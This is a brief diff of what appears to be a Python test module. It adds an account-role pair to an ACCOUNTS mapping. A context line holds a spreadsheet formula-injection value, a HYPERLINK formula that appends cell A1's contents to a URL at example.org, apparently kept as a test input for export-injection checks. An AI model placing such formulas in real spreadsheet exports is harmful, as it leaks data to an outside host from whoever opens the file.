@@ -21,7 +21,7 @@ for found in glob.glob(f"{os.path.dirname(__file__)}/api_*.py"):
 
 ACCOUNTS = {"liaison": "reviewer,officer", "second": "reviewer",
             "patrol": "officer", "auditor": "auditor", "chief": "administrator",
-            "figures": "analyst", "checker": "approver"}
+            "figures": "analyst", "checker": "approver", "films": "tracks"}
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
 
